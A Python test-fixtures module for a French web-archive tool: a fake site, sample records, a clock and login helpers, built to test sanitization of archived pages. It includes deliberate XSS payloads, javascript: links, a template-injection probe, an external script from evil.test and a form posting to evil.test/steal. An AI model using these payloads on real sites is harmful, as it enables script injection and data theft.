"""What the small site of these tests is made of: pages, files, records, a clock; hostile values included."""

import struct
import zlib
from dataclasses import dataclass, field
from datetime import UTC, date, datetime

from httpx2 import Response
from starlette.testclient import TestClient

from transform.schema import (
    Document,
    Evidence,
    Image,
    Link,
    LinkStatus,
    Nature,
    Note,
    Period,
    Person,
    Place,
    Record,
    Section,
    Source,
    Step,
    TextQuoteSelector,
    Video,
)

OLD = "http://www.comedie.test"
BASE = "https://archive.example.org"
PASSWORD = "une phrase assez longue"
TODAY = date(2026, 11, 23)
CAPTURED = datetime(2021, 3, 12, 10, 10, 10, tzinfo=UTC)
HOSTILE = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>{{7*7}}"

HOSTILE_PAGE = f"""<!DOCTYPE html><html><head><title>Loup</title>
<base href="http://evil.test/"><meta http-equiv="refresh" content="0;url=http://evil.test/">
<link rel="stylesheet" href="{OLD}/s.css"><link rel="stylesheet" href="http://evil.test/x.css">
<link rel="preload" href="http://evil.test/p"><script>alert(1)</script><script src="http://evil.test/a.js"></script>
<style>body {{ background: url(http://evil.test/t.png) }} p {{ background: url('{OLD}/i.png') }} @import "http://evil.test/y.css";</style>
</head><body onload="alert(2)" background="http://evil.test/bg.png">
<p onclick="alert(3)" style="background:url(http://evil.test/s.png)">Un loup dans la vallée</p>
<img src="{OLD}/i.png" onerror="alert(4)" srcset="http://evil.test/2x.png 2x"><img src="http://evil.test/spy.gif">
<a href="javascript:alert(5)">un</a><a href="java&#10;script:alert(5)">deux</a>
<a href="data:text/html,<script>alert(6)</script>">trois</a><a href="vbscript:x">quatre</a>
<a href="{OLD}/fiche/1/">fiche</a><a href="http://autre.test/x" ping="http://evil.test/ping">dehors</a>
<svg><script>alert(7)</script><a xlink:href="javascript:alert(8)">x</a></svg><math><mtext></mtext></math>
<iframe src="http://evil.test/"></iframe><object data="x.swf"></object><embed src="x.swf">
<form action="http://evil.test/steal" method="post"><input name="q" formaction="http://evil.test"><button>ok</button></form>
</body></html>"""


def png(width: int = 120, height: int = 80) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress((b"\0" + b"\x55\x88\x77" * width) * height)
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


PAGES: dict[str, tuple[str, bytes]] = {
    "/fiche/1/": ("text/html", b"<html><body><h1>Le loup</h1></body></html>"),
    "/hostile/": ("text/html; charset=utf-8", HOSTILE_PAGE.encode()),
    "/latin/": ("text/html; charset=iso-8859-1", "<html><body><p>Forêt élargie</p></body></html>".encode("latin-1")),
    "/s.css": ("text/css", b"p{background:url(i.png)} i{background:url(http://evil.test/z.png)}"),
    "/i.png": ("image/png", png()),
    "/lying.png": ("image/png", b"<html><script>alert(1)</script></html>"),
    "/d.svg": ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    "/d.pdf": ("application/pdf", b"%PDF-1.4\n%%EOF\n"),
    "/a.js": ("text/javascript", b"alert(1)"),
    "/a.bin": ("text/html", bytes(range(256))),
    "/notes.txt": ("text/plain; charset=iso-8859-1", "été".encode("latin-1")),
    "/search?q=a b": ("text/html", b"<html><body>deux mots</body></html>"),
}


def record(number: int, title: str, kind: str = "experience", **values: object) -> Record:
    source = Source(
        url=f"{OLD}/fiche/{number}/",
        template="wordpress",
        captured="2021-03-12T10:10:10Z",
        archive="comedie-00001.warc.gz",
        offset=0,
        digest="sha256:0",
    )
    return Record.model_validate(
        {"id": f"comedie-{number}", "kind": kind, "title": title, "source": source, "language": "fr", **values}
    )


def records() -> list[Record]:
    sections = [
        Section(
            heading="La démarche",
            level=2,
            text="Les bergers veillent.",
            html=f'<p>Les <b>bergers</b> veillent. <a href="{OLD}/?p=2">Voir la rivière</a> '
            '<a href="http://ailleurs.test/x">ailleurs</a></p>',
        ),
        Section(heading="Les suites", level=4, text="Un accord.", html="<p>Un accord.</p>"),
    ]
    first = record(
        1,
        "Une coopération à propos du loup",
        subtitle="Des volontaires pour aider les bergers",
        lead="Dans la vallée, le loup revient et les bergers s’inquiètent.",
        sections=sections,
        notes=[Note(mark="1", text="Une note de bas de page.")],
        published="2011-04-01",
        period=Period(edtf="2003/2005", start=2003, end=2005, text="entre 2003 et 2005"),
        places=[Place(name="Drôme")],
        people=[Person(name="Anne Martin", role="autrice")],
        terms={"theme": ["Faune sauvage"]},
        media=[
            Image(url=f"{OLD}/i.png", caption="Le troupeau", alt="Des brebis"),
            Image(url="http://evil.test/absente.png"),
            Video(url="https://video.test/v", provider="youtube", title="Le film"),
        ],
        documents=[Document(url=f"{OLD}/d.pdf", title="Le guide", format="application/pdf", bytes=1234567)],
        links=[Link(url=f"{OLD}/?p=2", text="Voir la rivière", status=LinkStatus.RECORD, record="comedie-2")],
        related=["comedie-3", "comedie-404"],
        provenance={
            "/title": Evidence(nature=Nature.WRITTEN, rule="wordpress.title", raw="Une coopération"),
            "/places/0": Evidence(
                nature=Nature.INFERRED, rule="gazetteer", selector=TextQuoteSelector(exact="dans la Drôme")
            ),
        },
    )
    hostile = record(
        66,
        f"Loup {HOSTILE}",
        subtitle=HOSTILE,
        lead=f"loup {HOSTILE}",
        sections=[
            Section(
                heading=HOSTILE,
                text=f"loup {HOSTILE}",
                html=f'{HOSTILE}<a href="javascript:alert(3)" onclick="x()">x</a><p style="position:fixed">p</p>'
                '<a href="//evil.test/x">y</a><iframe src="http://evil.test"></iframe><form action="/x"><input></form>',
            )
        ],
        notes=[Note(mark=HOSTILE, text=HOSTILE)],
        terms={HOSTILE: [HOSTILE]},
        people=[Person(name=HOSTILE)],
        media=[Video(url="javascript:alert(9)", title=HOSTILE)],
        documents=[Document(url="javascript:alert(10)", title=HOSTILE)],
        step=Step(parcours=HOSTILE, chapter=HOSTILE),
        provenance={f"/{HOSTILE}": Evidence(nature=Nature.INFERRED, rule=HOSTILE, raw=HOSTILE)},
    )
    moved = {48: "https://www.i-cpc.test/etude/48/", 49: "https://evil.test/etude/49/"}
    others = [
        record(
            n,
            f"Rivière et moulins, récit {n}",
            "etude-de-cas" if n % 2 else "experience",
            lead="La rivière déborde.",
            moved_to=moved.get(n),
        )
        for n in range(2, 50)
    ]
    return [first, hostile, *others]


@dataclass
class Clock:
    """Seconds since 1970, moved by hand."""

    now: float = 1_800_000_000.0
    today: date = field(default=TODAY)

    def __call__(self) -> float:
        return self.now


def csrf_in(page: str) -> str:
    return page.split('name="csrf" value="')[1].split('"', maxsplit=1)[0]


def log_in(client: TestClient, name: str = "claire", password: str = PASSWORD, suite: str = "") -> Response:
    page = client.get("/redaction/connexion", params={"suite": suite} if suite else {})
    fields = {"csrf": csrf_in(page.text), "name": name, "password": password, "suite": suite}
    return client.post("/redaction/connexion", data=fields)
